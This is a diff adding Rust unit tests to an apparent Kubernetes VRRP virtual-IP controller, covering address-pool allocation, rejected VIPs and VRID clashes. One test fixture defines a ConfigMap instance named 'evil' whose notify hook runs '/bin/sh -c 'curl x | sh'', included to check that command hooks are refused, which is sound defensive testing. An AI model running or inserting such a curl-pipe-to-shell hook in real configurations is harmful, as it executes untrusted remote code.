@@ -336,3 +336,194 @@ fn cluster_defaults_meet_the_files_rules() {
         "edgevip.yaml: instances[0].advert_interval: 200ms is not whole seconds (VRRPv2 counts seconds)"
     );
 }
+
+fn lb_settings(me: &str) -> Settings {
+    let mut s = settings(me);
+    s.lb = Some(crate::services::LbSettings {
+        class: crate::services::DEFAULT_CLASS.into(),
+        default_class: false,
+        pool: crate::services::Pool::parse("192.0.2.10-192.0.2.12,192.0.2.200-192.0.2.210")
+            .unwrap(),
+        vrid: 51,
+    });
+    s
+}
+
+fn lb_svc(name: &str, created: &str, wanted: Option<&str>, status: &[&str]) -> SvcInfo {
+    SvcInfo {
+        namespace: "web".into(),
+        name: name.into(),
+        created: created.into(),
+        load_balancer: true,
+        class: Some(crate::services::DEFAULT_CLASS.into()),
+        wanted: wanted.map(|w| w.parse().map_err(|_| format!("{w:?} is not an IP address"))),
+        status: status.iter().map(|x| x.parse().unwrap()).collect(),
+        pending: None,
+    }
+}
+
+fn served(d: &Desired, instance: &str) -> Vec<String> {
+    d.instances
+        .iter()
+        .filter(|i| i.name == instance)
+        .flat_map(|i| i.vips.iter().map(|v| v.addr.to_string()))
+        .collect()
+}
+
+#[test]
+fn one_bad_compat_key_is_refused_alone() {
+    let src = source(&[
+        ("192.0.2.100", ""),
+        ("fe80::1", ""),
+        ("127.0.0.1", ""),
+        ("192.0.2.12", ""),
+        ("198.51.100.7", ""),
+        ("192.0.2.101", "default/web"),
+    ]);
+    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    assert_eq!(served(&d, COMPAT_INSTANCE), ["192.0.2.100", "192.0.2.101"]);
+    let fields: Vec<&str> = d.rejects.iter().map(|r| r.field.as_str()).collect();
+    assert_eq!(
+        fields,
+        [
+            "data[\"127.0.0.1\"]",
+            "data[\"192.0.2.12\"]",
+            "data[\"198.51.100.7\"]",
+            "data[\"fe80::1\"]",
+        ],
+        "{:?}",
+        d.rejects
+    );
+    assert!(d.rejects[1].message.contains("a node's address"));
+}
+
+#[test]
+fn a_generated_instance_that_cannot_take_a_vip_loses_only_that_vip() {
+    // Whatever the cause (here a VIP past the fence that the file's rules refuse), the
+    // VIP is refused alone, with the entry that asked for it.
+    let (s, nodes) = (settings("edge-a"), cluster());
+    let ctx = Ctx::new(&s, &nodes, &nodes[0], &eth0());
+    let ip = |x: &str| x.parse::<IpAddr>().unwrap();
+    let c = Candidate::generated(
+        "services",
+        LB_INSTANCE,
+        51,
+        From::Services,
+        vec![
+            (ip("192.0.2.200"), "Service web/a".into()),
+            (ip("127.0.0.1"), "Service web/b".into()),
+            (ip("192.0.2.201"), "Service web/c".into()),
+        ],
+    );
+    let mut d = Desired::default();
+    Builder::default().accept(&ctx, c, 0, false, "x", &mut d);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.201"]);
+    assert_eq!(d.rejects.len(), 1, "{:?}", d.rejects);
+    assert_eq!(d.rejects[0].field, "Service web/b");
+    assert!(d.rejects[0].message.starts_with("refused alone: "));
+}
+
+#[test]
+fn the_configmap_carrying_commands_is_refused_entry_by_entry() {
+    let doc = "instances:\n  - {name: web, vrid: 61, vips: [192.0.2.120/24]}\n  - {name: evil, vrid: 62, vips: [192.0.2.121/24], notify: [/bin/sh, -c, 'curl x | sh']}\n  - {name: probe, vrid: 63, vips: [192.0.2.122/24], health_checks: [{exec: [/bin/true]}]}\n  - {name: far, vrid: 64, vips: [203.0.113.10/24]}\n";
+    let src = source(&[(rich::KEY, doc), ("192.0.2.100", "")]);
+    let d = Builder::default().build(&settings("edge-a"), &cluster(), &eth0(), Some(&src), &[]);
+    let names: Vec<&str> = d.instances.iter().map(|i| i.name.as_str()).collect();
+    assert_eq!(names, ["vips", "web"]);
+    let notes: Vec<String> = d
+        .rejects
+        .iter()
+        .map(|r| format!("{}: {}", r.field, r.message))
+        .collect();
+    assert_eq!(notes.len(), 3, "{notes:#?}");
+    assert!(
+        notes[0].contains("instances[1].notify") && notes[0].contains("curl x | sh"),
+        "{notes:#?}"
+    );
+    assert!(
+        notes[1].contains("instances[2].health_checks[0].exec"),
+        "{notes:#?}"
+    );
+    assert!(
+        notes[2].contains("instances[3].vips[0]: refused: 203.0.113.10 is outside"),
+        "{notes:#?}"
+    );
+    // The DaemonSet opting in lets them through.
+    let mut s = settings("edge-a");
+    s.trust.configmap.exec = true;
+    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&src), &[]);
+    assert_eq!(d.instances.len(), 4, "{:?}", d.rejects);
+}
+
+#[test]
+fn bad_load_balancer_requests_are_refused_alone_and_live_vips_win() {
+    let s = lb_settings("edge-a");
+    let services = [
+        lb_svc("old", "1", None, &["192.0.2.200"]),
+        lb_svc("loopback", "2", Some("127.0.0.1"), &[]),
+        lb_svc("node", "3", Some("192.0.2.12"), &[]),
+        lb_svc("outside", "4", Some("203.0.113.7"), &[]),
+        // Older than `old` but asks for its live VIP: refused, `old` keeps it.
+        lb_svc("thief", "0", Some("192.0.2.200"), &[]),
+        lb_svc("ok", "5", Some("192.0.2.205"), &[]),
+        lb_svc("fresh", "6", None, &[]),
+    ];
+    let d = Builder::default().build(&s, &cluster(), &eth0(), None, &services);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.200", "192.0.2.205"]);
+    let p = &d.lb.problems;
+    assert!(p["web/loopback"].contains("127.0.0.1 is loopback"), "{p:?}");
+    assert!(
+        p["web/node"].contains("192.0.2.12 is a node's address"),
+        "{p:?}"
+    );
+    assert!(
+        p["web/outside"].contains("203.0.113.7 is not in the address pool"),
+        "{p:?}"
+    );
+    assert!(
+        p["web/thief"].contains("already the VIP of another Service"),
+        "{p:?}"
+    );
+    // The pool's .10-.12 hold node addresses: allocation skips them.
+    assert_eq!(d.lb.writes["web/fresh"].to_string(), "192.0.2.10");
+    assert_eq!(d.lb.serving.len(), 2);
+}
+
+#[test]
+fn a_vrid_clash_refuses_the_newer_instance_never_the_serving_one() {
+    let s = lb_settings("edge-a");
+    let rich51 = source(&[(
+        rich::KEY,
+        "instances:\n  - {name: ingress, vrid: 51, vips: [192.0.2.150/24]}\n",
+    )]);
+    let svc = [lb_svc("front", "1", None, &["192.0.2.201"])];
+    // The rich instance serves first; a Service then makes the LB instance on --lb-vrid 51.
+    let mut b = Builder::default();
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &[]);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"], "{:?}", d.rejects);
+    assert!(served(&d, LB_INSTANCE).is_empty());
+    let r = d
+        .rejects
+        .iter()
+        .find(|r| r.field == "instance \"loadbalancers\"")
+        .unwrap();
+    assert!(r.message.contains("--lb-vrid"), "{r:?}");
+    assert!(
+        d.lb.problems["web/front"].contains("192.0.2.201 is not served"),
+        "{:?}",
+        d.lb.problems
+    );
+    // The other way round: the LB instance serves, an edit adds a rich instance on 51.
+    let mut b = Builder::default();
+    let d = b.build(&s, &cluster(), &eth0(), None, &svc);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
+    let d = b.build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, LB_INSTANCE), ["192.0.2.201"]);
+    assert!(served(&d, "ingress").is_empty());
+    assert_eq!(d.rejects[0].field, "instance \"ingress\"");
+    // A fresh start with both: the ConfigMap's instance wins over the Services'.
+    let d = Builder::default().build(&s, &cluster(), &eth0(), Some(&rich51), &svc);
+    assert_eq!(served(&d, "ingress"), ["192.0.2.150"]);
+}
